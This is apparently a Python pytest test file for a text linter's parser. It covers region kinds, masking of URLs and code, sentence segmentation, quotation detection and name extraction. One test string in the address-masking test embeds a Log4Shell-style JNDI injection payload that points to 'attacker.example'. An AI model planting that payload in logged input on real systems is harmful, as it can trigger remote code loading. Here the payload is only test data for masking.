"""The Document: regions, sentences, quotations, names and masking, in one offset space."""

from __future__ import annotations

import pytest

import lint
from lint.formats import parse
from lint.model.types import OPAQUE


def kinds(text: str, format: str = "text") -> list[tuple[str, str]]:
    doc = parse(text, format)
    return [(r.kind, text[r.start:r.end]) for r in doc.regions]


def sentences(text: str, format: str = "text") -> list[str]:
    doc = parse(text, format)
    return [text[s.start:s.end] for s in doc.sentences]


def quotes(text: str, format: str = "text") -> list[str]:
    doc = parse(text, format)
    return [text[q.start:q.end] for q in doc.quotations]


# -- regions ---------------------------------------------------------------------

def test_plain_text_headings_labels_datelines_and_bylines():
    text = (
        "Talks Resume: Ministers Meet Again\n\n"
        "By Jane Smith\n\n"
        "GENEVA (Reuters) \u2014 Ministers met again on Monday. They agreed.\n\n"
        "Steel Quotas: The bloc wants them lifted.\n\n"
        "The Kremlin has one demand: no expansion.\n\n"
        "Key Demands & Sticking Points\n"
    )
    assert kinds(text) == [
        ("heading", "Talks Resume: Ministers Meet Again"),
        ("byline", "By Jane Smith"),
        ("dateline", "GENEVA (Reuters) \u2014 "),
        ("paragraph", "Ministers met again on Monday. They agreed."),
        ("label", "Steel Quotas:"),
        ("paragraph", "The bloc wants them lifted."),
        ("paragraph", "The Kremlin has one demand: no expansion."),
        ("heading", "Key Demands & Sticking Points"),
    ]


@pytest.mark.parametrize(
    "text",
    ["He said: the rest.", "Peskov told reporters: nothing changed.", "This is it: the end.",
     "Officials at the ministry, however, said: no.", "At 10:30 the talks began."],
)
def test_clauses_with_colons_are_not_labels(text):
    assert [k for k, _ in kinds(text)] == ["paragraph"]


def test_markdown_blocks():
    md = (
        "---\ntitle: The Headline\nsubtitle: A deck\nauthor: X\n---\n"
        "# Heading One\n\nSetext heading\n--------------\n\nBody text here.\n\n"
        "- item one\n- item two\n\n> quoted line\n\n![A caption](img.png)\n\n"
        "| a | b |\n|---|---|\n| c | d |\n\n```\ncode\n```\n\n    indented code\n\n<!-- comment -->\n"
    )
    assert kinds(md, "markdown") == [
        ("field", "The Headline"),
        ("field", "A deck"),
        ("heading", "Heading One"),
        ("heading", "Setext heading"),
        ("paragraph", "Body text here."),
        ("list-item", "item one"),
        ("list-item", "item two"),
        ("blockquote", "quoted line"),
        ("caption", "A caption"),
        ("table", "a | b |\n|---|---|\n| c | d"),  # pipes are masked, so the range is trimmed
    ]


def test_masking_keeps_offsets_and_hides_code_urls_and_markup():
    md = "Run `npm ci` and see [docs](https://x.io/a,b) or https://y.io/c.D <b>now</b>.\n"
    doc = parse(md, "markdown")
    assert len(doc.masked) == len(md)
    assert doc.masked.startswith("Run " + OPAQUE * 8 + " and see  docs")
    assert "https" not in doc.masked and "<b>" not in doc.masked


def test_what_follows_a_links_target_is_not_taken_for_part_of_its_address():
    # Read on its own, the address in "(https://x.io/r)" runs on past the ")" to the next space.
    md = "She read [the report](https://x.io/r).The mayor and [the plan](https://x.io/p),which passed.\n"
    doc = parse(md, "markdown")
    assert ".The mayor and" in doc.masked and ",which passed." in doc.masked


def test_addresses_are_masked_in_each_paragraph_that_holds_one_and_only_there():
    # Paragraphs are searched for addresses only where the draft holds a mark
    # (http, www., @, ...): each case must still be found, at a block's edges too.
    md = ("Plain opening paragraph.\n\nwww.example.org opens this one.\n\nNo address here.\n\n"
          "> Quoted, ends with mail desk@example.org\n\n- item http://a.example/b\n\nLast one, at ftp://f.example")
    doc = parse(md, "markdown")
    assert len(doc.masked) == len(md)
    for address in ("www.example.org", "desk@example.org", "http://a.example/b", "ftp://f.example"):
        at = md.index(address)
        assert doc.masked[at:at + len(address)] == OPAQUE * len(address), address
    assert "Plain opening paragraph." in doc.masked and "No address here." in doc.masked


@pytest.mark.parametrize("fmt", ["text", "markdown", "html"])
def test_an_address_of_any_scheme_is_masked_with_its_scheme(fmt):
    text = ("Clone git://example.org/repo.git today. The string was ${jndi:ldap://attacker.example/a} in the logs. "
            "Use s3://bucket/path or ssh://host.example:22, not 3://4.")
    text = f"<p>{text}</p>" if fmt == "html" else text
    doc = parse(text, fmt)
    for address in ("git://example.org/repo.git", "ldap://attacker.example/a", "s3://bucket/path",
                    "ssh://host.example:22"):
        at = text.index(address)
        assert doc.masked[at:at + len(address)] == OPAQUE * len(address), address
    assert "${jndi:" in doc.masked and "} in the logs." in doc.masked and ", not 3://4." in doc.masked


@pytest.mark.parametrize("fmt", ["text", "markdown", "html"])
def test_a_bare_domain_with_a_path_is_masked_with_its_path(fmt):
    text = ("Sign up at example.com/news?id=5 today. Apply at gov.uk/apply?ref=abc&x=1, or see "
            "pib.gov.in/PressReleasePage.aspx?PRID=2071. The rules, and/or the fees, apply 24/7 on the U.S./Mexico "
            "border, rated 3.5/5 by readers.The end. Archive: example.pl/7,75398,30412.html, in Polish, and example.com/news,2024.")
    text = f"<p>{text}</p>" if fmt == "html" else text
    doc = parse(text, fmt)
    for address in ("example.com/news?id=5", "gov.uk/apply?ref=abc&x=1", "pib.gov.in/PressReleasePage.aspx?PRID=2071",
                    "example.pl/7,75398,30412.html", "example.com/news,2024"):
        at = text.index(address)
        assert doc.masked[at:at + len(address)] == OPAQUE * len(address), address
    for prose in (" today.", ", or see", ". The rules, and/or the fees, apply 24/7 on the U.S./Mexico",
                  "rated 3.5/5 by readers.The end.", ", in Polish, and "):
        assert prose in doc.masked, prose


def test_a_bare_domain_path_hides_no_run_on_sentence():
    text = ("Details at example.com/news?id=5 before Friday.the mayor said. Report bugs at "
            "github.com/python/cpython/issues;the list is busy. See example.com/a,b or example.com/news,the archive.")
    found = [(d.rule, text[d.offset:d.end_offset]) for d in lint.check_text(text, format="text")]
    assert ("punctuation-spacing", "Friday.the") in found
    assert ("punctuation-spacing", "issues;the") in found  # a path holds no ";", nor a "," before a letter
    assert ("punctuation-spacing", "a,b") in found and ("punctuation-spacing", "news,the") in found
    assert not any("?" in span for _, span in found)


def test_front_matter_fields_are_regions_with_exact_offsets():
    md = '---\ntitle: "Zé 😀 test"\ndescription: >\n  A folded\n  description\ndate: 2025-03-01\n---\nBody.\n'
    doc = parse(md, "markdown")
    fields = {r.name: md[r.start:r.end] for r in doc.regions if r.kind == "field"}
    assert fields == {"title": "Zé 😀 test", "description": "  A folded\n  description\n"}
    assert doc.front_matter["date"] == "2025-03-01"


# -- positions -------------------------------------------------------------------

def test_columns_are_code_points_with_crlf_bom_tabs_and_emoji():
    text = "\ufeffFirst line.\r\n\tTab 😀 ünï. the end.\r\n"
    from lint.run.inputs import decode

    decoded = decode(text.encode("utf-8"))
    (d,) = lint.check_text(decoded, format="text")
    assert (d.line, d.column, d.end_column) == (2, 13, 16)
    assert decoded[d.offset:d.end_offset] == "the"


@pytest.mark.parametrize("format", ["markdown", "text"])
def test_a_draft_with_windows_or_old_mac_line_ends_reads_as_one_with_line_feeds(format):
    """A hard-wrapped sentence reads the same whatever wrote its line ends ("of\\r\\nthe" is no double space), and
    every diagnostic points into the file as it is: the same findings, lines and columns, offsets shifted by the
    carriage returns before them."""
    text = ("Some residents said they were relieved.\n\n\u201cIt has been horrible for everyone,\u201d said Anne "
            "Clark, who\nlives nearby. Rail unions criticised it. Mick Lynch, general secretary of\nthe RMT, said "
            "fares were too high.\n\nIt was a honour,to serve.\n")
    expected = [(d.rule, d.line, d.column, d.end_line, d.end_column) for d in lint.check_text(text, format=format)]
    assert [rule for rule, *_ in expected] == ["indefinite-article", "punctuation-spacing"]
    for ends in ("\r\n", "\r"):
        source = text.replace("\n", ends)
        found = lint.check_text(source, format=format)
        assert [(d.rule, d.line, d.column, d.end_line, d.end_column) for d in found] == expected
        assert [source[d.offset:d.end_offset] for d in found] == ["a honour", "honour,to"]


# -- sentences -------------------------------------------------------------------

def test_sentence_segmentation():
    text = (
        "Mr. Smith met Dr. Jones at 10 a.m. on Jan. 5 in the U.S. Capitol. The U.S. economy grew 3.5%. "
        "He lives in the U.S. The talks ended.Then came news. \u201cStop!\u201d he said. Wait... what? "
        "J.K. Rowling spoke. It was fine!"
    )
    assert sentences(text) == [
        "Mr. Smith met Dr. Jones at 10 a.m. on Jan. 5 in the U.S. Capitol.",
        "The U.S. economy grew 3.5%.",
        "He lives in the U.S.",
        "The talks ended.",
        "Then came news.",
        "\u201cStop!\u201d he said.",
        "Wait... what?",
        "J.K. Rowling spoke.",
        "It was fine!",
    ]
    # A time run into its number is the abbreviation still; a decade or a unit ends the sentence.
    assert sentences("The vote closed at 10p.m. on Friday. It was taken in the 1920s. Quist said so. "
                     "It weighed 10kg. Officials said so.") == [
        "The vote closed at 10p.m. on Friday.", "It was taken in the 1920s.", "Quist said so.", "It weighed 10kg.",
        "Officials said so."]
    # A two-letter word in lowercase ends its sentence before a name: it is no initialism.
    assert sentences("Owners may sell up. Ben Beadle said so. It was voted in. Ana Ruiz left.") == [
        "Owners may sell up.", "Ben Beadle said so.", "It was voted in.", "Ana Ruiz left."]
    # An acronym or a numeral written without stops ends its sentence before any capital; an initial does not.
    assert sentences("It was built in the UK. Nine people worked on it. It ended after World War II. Nine died. "
                     "Michael J. Fox spoke.") == [
        "It was built in the UK.", "Nine people worked on it.", "It ended after World War II.", "Nine died.",
        "Michael J. Fox spoke."]
    # Initials are initials however many: a name with five of them is one sentence.
    assert sentences("Minister K.K.S.S.R. Ramachandran spoke. He left at 5 p.m. The others stayed.") == [
        "Minister K.K.S.S.R. Ramachandran spoke.", "He left at 5 p.m.", "The others stayed."]
    assert sentences("It was built in the U.S.A.F.R. The rest was not.") == [
        "It was built in the U.S.A.F.R.", "The rest was not."]


# -- quotations ------------------------------------------------------------------

def test_quotations_straight_curly_nested_and_single():
    text = (
        "\u201cWe will not \u2018give up\u2019 now,\u201d she said. He said \"no deal today\" twice. "
        "She called it 'a very bad idea' and left."
    )
    assert quotes(text) == [
        "\u201cWe will not \u2018give up\u2019 now,\u201d",
        "\u2018give up\u2019",
        "\"no deal today\"",
        "'a very bad idea'",
    ]
    doc = parse(text, "text")
    assert [q.depth for q in doc.quotations] == [0, 1, 0, 0]


def test_a_straight_quotation_inside_a_straight_quotation_is_nested():
    # A page that writes every mark straight: the term's marks open and close inside the quotation.
    text = '"The only "no" votes came from others. It is irresponsible," said Joan Shannon.'
    assert quotes(text) == ['"The only "no" votes came from others. It is irresponsible,"', '"no"']
    assert [q.depth for q in parse(text, "text").quotations] == [0, 1]
    # ... not a quotation whose closing mark was lost: no closer follows the pair
    assert quotes('"We will win, he said. "Next year will be better," he added.') == ['"We will win, he said. "']
    # ... nor two quotations in a row, the second after a closed first
    assert quotes('He said "yes" and then "no" to the plan.') == ['"yes"', '"no"']
    # ... nor a long passage between the marks: a term inside a quotation is short
    assert quotes('"We said "this plan has failed and we want the whole board to go now" today," she said.') == ['"We said "']


def test_a_quotations_words_are_counted_alike_whatever_its_marks():
    # The first word after a straight single mark counts, as after the others (not "s" in "Trump's").
    for mark in ("'", "\"", "\u2018"):
        close = "\u2019" if mark == "\u2018" else mark
        (q,) = parse(f"She said {mark}the vote was Trump's win{close} and left.", "text").quotations
        assert q.words == 5, mark


@pytest.mark.parametrize(
    "text",
    ["Trump's envoy met the players' union.", "Trump\u2019s envoy and the players\u2019 union.",
     "They played rock 'n' roll in the '90s.", "Don't stop, it's fine."],
)
def test_apostrophes_are_not_quotation_marks(text):
    assert quotes(text) == []


@pytest.mark.parametrize("text", [
    # A name that opens with an apostrophe, after a comparison or a preposition, and nothing closes it.
    "It is larger than 'Oumuamua, which was found in 2017. Unlike 'Oumuamua, it has a tail.",
    "The canoe sailed from \u2018Iolani Palace at dawn.",
    "It is larger than the first known interstellar object, 'Oumuamua, found in 2017.",
])
def test_a_name_that_opens_with_an_apostrophe_is_no_quotation(text):
    assert quotes(text) == []


def test_a_quotation_inside_a_dropped_apostrophe_name_is_counted_again_as_outer():
    (q,) = parse("Unlike 'Oumuamua, it has a tail. \u201cIt is odd,\u201d she said.", "text").quotations
    assert q.depth == 0 and q.closed


@pytest.mark.parametrize("text", [
    # ... not a quotation left open after a verb of saying, a colon or a pronoun, nor one that closes.
    "She said: 'We will win and then we will celebrate.",
    "He called it 'a disaster and left.",
    "It was better than 'a disaster', she said.",
])
def test_a_single_mark_that_opens_a_quotation_is_still_one(text):
    assert len(quotes(text)) == 1


@pytest.mark.parametrize("open_, close", [("'", "'"), ("\u2018", "\u2019")])
def test_a_plurals_apostrophe_inside_a_single_quoted_quotation(open_, close):
    # "employers' court" is a possessive: the quotation closes after the stop further on.
    text = (f"{open_}The ball is back in the employers{close} court. If they dig in, we will strike,{close} he "
            "said.")
    assert quotes(text) == [text[:text.index(" he said")]]
    # ... not a scare quote's close, nor one before a verb of saying or with no close after a stop
    assert quotes(f"He called them {open_}heroes{close} and left. {open_}We are proud,{close} he said.") == [
        f"{open_}heroes{close}", f"{open_}We are proud,{close}"]
    assert quotes(f"{open_}We want more than promises{close} said the union.") == [
        f"{open_}We want more than promises{close}"]
    assert quotes(f"{open_}They are back in the employers{close} court now, and so are we.") == [
        f"{open_}They are back in the employers{close}"]


def test_a_quotation_going_on_after_its_tag_and_a_comma_is_still_one():
    assert quotes("'We won,' he said, 'and we will win again.") == ["'We won,'", "'and we will win again."]


def test_two_straight_single_marks_close_a_double_quotation():
    # Old wire copy closes with two apostrophes: each quotation ends there, and the next opens afresh.
    text = "\"It looks fine,'' said Jo Roe. \"Every other metric is better.''\n\n\"The guidance disappoints,'' said Al Poe."
    assert quotes(text) == ["\"It looks fine,''", "\"Every other metric is better.''", "\"The guidance disappoints,''"]
    # ... not two marks after a space, nor with no double quotation open
    assert quotes("He wrote '' twice.") == []


def test_quotation_running_over_paragraphs():
    text = "\u201cWe came here to talk.\n\n\u201cAnd we will keep talking,\u201d he said.\n\nNext paragraph."
    (q,) = parse(text, "text").quotations
    assert text[q.start:q.end] == "\u201cWe came here to talk.\n\n\u201cAnd we will keep talking,\u201d"
    assert q.closed


def test_unclosed_quotation_ends_with_its_paragraph():
    text = "He said \u201cnever again.\n\nThe end came later."
    (q,) = parse(text, "text").quotations
    assert text[q.start:q.end] == "\u201cnever again."
    assert not q.closed


# -- names -----------------------------------------------------------------------

def test_name_runs():
    text = "Talks between Vladimir Putin and Donald J. Trump\u2019s envoy began. The Kremlin said so."
    doc = parse(text, "text")
    assert [text[s:e] for s, e in doc.names] == ["Vladimir Putin", "Donald J. Trump", "Kremlin"]
